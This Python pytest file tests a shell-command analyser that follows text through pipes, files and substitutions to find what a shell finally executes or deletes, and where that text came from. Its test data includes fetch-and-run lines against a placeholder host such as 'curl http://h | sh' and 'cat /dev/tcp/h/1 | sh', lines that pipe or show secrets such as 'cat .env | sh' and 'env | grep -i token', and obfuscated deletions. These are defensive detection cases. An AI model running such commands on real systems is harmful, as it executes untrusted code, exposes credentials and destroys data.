"""What flows through pipes: the text where it is known, and where it comes from."""

from __future__ import annotations

import pytest

from commands.lines import command_in, commands_in, effects_in, reasons_in


@pytest.mark.parametrize(
    "line",
    [
        "echo rm x | sh",
        "echo -n rm x | sh",
        "echo -e 'rm\\x20x' | sh",
        "echo -n -e 'rm\\tx' | sh",
        "printf 'rm x' | sh",
        "printf '%s %s' rm x | sh",
        "printf '%s ' rm x | sh",
        "printf '%-2s %5s' rm x | sh",
        "printf '%b' 'rm\\x20x' | sh",
        "printf 'rm %% x' | sh",
        "echo rm x | cat | sh",
        "echo rm x | cat - | sh",
        "echo rm x | tee | sh",
        "echo rm x | head | sh",
        "echo rm x > f; cat f | sh",
        "echo rm x > f; cat < f | sh",
        "echo rm > f; echo x > g; $(cat f g)",
        "cat <<< 'rm x' | sh",
        "cat <<E | sh\nrm x\nE",
        "sh <<< 'rm x'",
        "sh <<E\nrm x\nE",
        "sh <<-E\n\trm x\n\tE",
        "{ echo rm x; } | sh",
        "(echo rm x) > f; sh f",
        "echo 'rm x' > >(sh)",
        "(echo rm; echo x) | xargs echo | cat; $(which rm) x",
        "rm $(realpath x)",
        "rm $(dirname x/y)",
        "rm $(readlink -f x)",
        "$(command -v rm) x",
        "$(type -p rm) x",
        "rm $(git rev-parse --show-toplevel)/x",
        "rm $(pwd)/x",
    ],
)
def test_the_text_is_followed_into_what_runs_it(line: str):
    assert any(shown.startswith("rm ") and shown.endswith("x") for shown in commands_in(line))


@pytest.mark.parametrize(
    "line",
    [
        "date | sh",
        "echo $X | sh",
        "printf '%s' $X | sh",
        "cat f | sh",
        "echo a | cat - f | sh",
        "date | base64 | sh",
        "git log | sh",
    ],
)
def test_what_cannot_be_known_is_said_not_to_be(line: str):
    assert reasons_in(line) == ["it runs what another command prints"]


@pytest.mark.parametrize(
    "line",
    [
        "rm $(which)",
        "rm $(realpath a b)",
        "rm $(dirname a b)",
        "rm $(realpath $X)",
        "rm $(tar t)",
    ],
)
def test_a_name_that_cannot_be_known_is_an_unknown_place(line: str):
    assert effects_in(line) == ["delete ?$(…) in unknown, from unknown-file"]


@pytest.mark.parametrize("line", ["printf | sh", "tar cf o.tar a | sh", "true | sh"])
def test_nothing_flows_where_nothing_is_printed(line: str):
    assert reasons_in(line) == []


@pytest.mark.parametrize(
    ("line", "label"),
    [
        ("curl http://h | sh", "remote"),
        ("curl http://h | cat | sh", "remote"),
        ("curl http://h > f; sort f | sh", "remote"),
        ("nc -l 1 | sh", "remote"),
        ("cat /dev/tcp/h/1 | sh", "remote"),
        ("openssl s_client -connect h:1 | sh", "remote"),
        ("ssh h cat x | sh", "remote"),
        ("base64 -d f | sh", "decoded"),
        ("openssl enc -d | sh", "decoded"),
        ("xxd -r f | sh", "decoded"),
        ("echo mr | rev | sh", "decoded"),
        ("curl http://h | base64 -d | sh", "remote+decoded"),
        ("cat .env | sh", "secret"),
        ("env | sh", "environ"),
        ("env | grep KEY | sh", "picked"),
        ("git archive HEAD | sh", "archive"),
        ("tar c src | sh", "archive"),
        ("cat /etc/motd | sh", "system-file"),
        ("cat $F | sh", "unknown-file"),
        ("sort .env | sh", "secret"),
        ("git show .env | sh", "secret"),
        ("curl http://h | sh | sh", "remote"),
    ],
)
def test_the_origin_is_followed_into_what_runs_it(line: str, label: str):
    ran = [effect for effect in effects_in(line) if effect.startswith("execute ")]

    assert ran
    assert ran[0].endswith(f", from {label}")


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("rm -r $(mktemp -d)", "delete /tmp/made-by-mktemp in temp, recursive"),
        ("rm $(mktemp x.XXX)", "delete /tmp/made-by-mktemp in temp"),
        ("rm $(mktemp /srv/x.XXX)", "delete /srv/x.XXX in outside"),
        ("rm $(mktemp --tmpdir=/srv x.XXX)", "delete /srv/made-by-mktemp in outside"),
        ("rm $(pwd)", "delete . in project"),
    ],
)
def test_names_that_programs_make_up_are_known_by_their_place(line: str, effect: str):
    assert effects_in(line) == [effect]


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("env | sort", True),
        ("printenv | cat", True),
        ("env | grep -i token", True),
        ("env | grep -C 3 TOKEN", True),
        ("env | jq -cR 'select(test(\"KEY\"))'", True),
        ("env | grep AWS", True),
        ("env | grep -qi token", False),
        ("env | grep --count KEY", False),
        ("env | grep PATH", False),
        ("env | grep -c token", False),
        ("env | sort > f", False),
        ("printenv HOME | cat", False),
    ],
)
def test_the_environment_is_shown_when_a_reader_sees_it(line: str, shown: bool):
    assert any(effect.startswith("show ") for effect in effects_in(line)) is shown


@pytest.mark.parametrize("tail", ["%", "%5", "a%%b%", "%x", "%+d", "%.3s", "%9999s", "%d"])
def test_a_format_that_is_not_computed_prints_something_unknown(tail: str):
    effects = effects_in(f"printf 'echo {tail}' a | sh")

    assert effects == ["execute standard input, from decoded"]


@pytest.mark.parametrize(
    ("printing", "word"),
    [
        ("printf -- x", "x"),
        ("printf -- '%s' x", "x"),
        ("printf -- -- x", "--"),
        ("printf '\\x25s' x", "%s"),
        ("printf '\\0101' x", "\b1"),
        ("printf 'a\\cb\\\"'", 'a\\cb"'),
        ("printf '%b' '\\0101\\101'", "AA"),
        ("printf '%b%s' 'a\\cb' c", "a"),
        ("printf 'r\\0m'", "rm"),
        ("echo -nE 'a\\x41'", "a\\x41"),
        ("echo -nEe 'a\\x41'", "aA"),
        ("echo -neE 'a\\x41'", "a\\x41"),
        ("echo -e 'a\\cb'", "a"),
        ("echo -e '\\0101\\101'", "A\\101"),
        ("echo -x", "-x"),
        ("echo -n- a", "-n- a"),
        ("echo -n a; echo b", "ab"),
        ("head -c 2 <<< abc", "ab"),
        ("head -c -2 <<< abc", "ab"),
        ("head -n 1 <<< $'a\\nb'", "a"),
        ("head -1 <<< $'a\\nb'", "a"),
        ("head --lines=1 <<< $'a\\nb'", "a"),
        ("printf 'a\\nb\\nc' | head -n -1 | tr -d q", None),
        ("printf 'a\\nb\\nc' | head -n -2", "a"),
        ("tail -c +2 <<< abc", "bc"),
        ("tail -n +2 <<< $'a\\nb'", "b"),
        ("tail -1 <<< $'a\\nb'", "b"),
        ("tail -n 0 <<< a", ""),
        ("echo a > f; tail f", "a"),
        ("tail -n1 -q <<< a", None),
        ("tail -n 1 -c 1 <<< a", None),
        ("head -n $N <<< a", None),
        ("head -n1k <<< a", None),
        ("head -c 1 <<< ä", None),
        ("head a b <<< c", None),
        ("tac <<< $'a\\nb'", "b\na"),
        ("printf 'a\\nb' | tac", "ba"),
        ("tac -s x <<< a", None),
        ("sort <<< $'b\\na'", "a\nb"),
        ("printf '' | sort", ""),
        ("sort <<< 'a b'", "a b"),
        ("sort <<< $'B\\na'", None),
        ("sort -r <<< a", None),
        ("uniq <<< $'a\\na\\nb'", "a\nb"),
        ("printf '' | uniq", ""),
        ("uniq -d <<< a", None),
        ("cat -n <<< a", None),
        ("cat -u <<< a", "a"),
        ("nl <<< a", None),
        ("grep a <<< a", None),
        ("more <<< a", "a"),
        ("more -s <<< a", None),
        ("tee f <<< a", "a"),
        ("cut -c1 <<< a", None),
        ("printf '\\xff'", None),
        ("printf -x", None),
        ("x=$(mktemp); echo $x | head -c 3", None),
        ("dirname /", "/"),
        ("dirname ///", "/"),
        ("dirname ''", "."),
        ("dirname a//b", "a"),
        ("dirname /a", "/"),
        ("dirname a/", "."),
        ("dirname -z a", None),
        ("dirname $(mktemp)", None),
        ("basename a/b/", "b"),
        ("basename /", "/"),
        ("basename ''", ""),
        ("basename a.txt .txt", "a"),
        ("basename .txt .txt", ".txt"),
        ("basename a b c", None),
        ("basename $X", None),
        ("basename -s .txt a.txt", None),
        ("realpath --relative-to=/tmp /etc", "../etc"),
        ("realpath --relative-to=$X /etc", None),
        ("realpath --relative-to=/tmp x", None),
        ("realpath /tmp/..", "/"),
        ("realpath //etc/./x/..", "/etc"),
        ("readlink -fn x", "x"),
        ("realpath -z x", None),
        ("which $X", None),
        ("which ls", "ls"),
    ],
)
def test_an_output_is_exact_or_unknown(printing: str, word: str | None):
    last = command_in(f'said "$({printing})"', "said").argv[1]

    assert (last.text if last.known else None) == word


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ('x=$(mktemp -d); rm "$x"', "/tmp/made-by-mktemp"),
        ('x=$(mktemp -d); rm "$x/sub"', "/tmp/made-by-mktemp/sub"),
        ('x=$(mktemp); rm "$x.bak"', "/tmp/made-by-mktemp.bak"),
        ('x=$(mktemp -d); rm "$x/../etc"', "$(…)/../etc"),
        ('x=$(mktemp -d); rm "a$x"', "a$(…)"),
        ('x=$(mktemp -d); rm "${x%/*}"', "${x…}"),
        ('x=$(mktemp -d); rm "${#x}"', "${#…}"),
        ('x=$(realpath /); x+=etc; rm "$x"', "$(…)etc"),
        ('rm "$(realpath /)""etc"', "$(…)etc"),
        ('rm "$(realpath /)/etc"', "//etc"),
        ('rm "$(pwd)etc"', "$(…)etc"),
        ('rm "$(pwd)/etc"', "./etc"),
        ('cd /a; rm "$(pwd)b"', "/ab"),
        ('x=$(mktemp); rm "$(printf %s%s "$x" a)"', "$(…)"),
        ('x=$(mktemp); rm "$(printf %s "$x")"', "/tmp/made-by-mktemp"),
        ("realpath / | xargs -I{} rm {}etc", "$(…)etc"),
        ("realpath a | xargs -I{} rm {}/x", "a/x"),
    ],
)
def test_a_name_that_stands_in_for_another_is_used_whole(line: str, target: str):
    assert command_in(line, "rm").argv[-1].text == target


@pytest.mark.parametrize(
    "line",
    [
        "cat > x.sh <<< 'rm x'; sh x.sh",
        "cat <<< 'rm x' > x.sh; sh x.sh",
        "{ cat; } > x.sh <<< 'rm x'; sh x.sh",
        "tee x.sh <<< 'rm x'; sh x.sh",
        "sponge x.sh <<< 'rm x'; sh x.sh",
        "dd of=x.sh <<< 'rm x'; sh x.sh",
        "dd of=x.sh bs=1 skip=0 <<< 'rm x'; sh x.sh",
        "echo 'rm x' > y; dd if=y of=x.sh; sh x.sh",
        "split - y <<< 'rm x'; sh yaa",
        "split <<< 'rm x'; sh xaa",
        "echo 'rm x' > y; split y; sh xaa",
        "csplit - 1 <<< 'rm x'; sh xx00",
        "csplit -f y - 1 <<< 'rm x'; sh y00",
        "sed -n 'w x.sh' <<< 'rm x'; sh x.sh",
    ],
)
def test_what_is_written_from_a_text_is_followed(line: str):
    assert "rm x" in commands_in(line)


def test_what_is_not_known_to_be_written_is_not_made_up():
    assert effects_in("split big.log; sh xaa") == []
    assert effects_in("dd if=in of=a.out; sh a.out") == ["overwrite a.out in project, forced"]
    assert effects_in("sed -n 'w a.out' file; sh a.out") == ["overwrite a.out in project"]
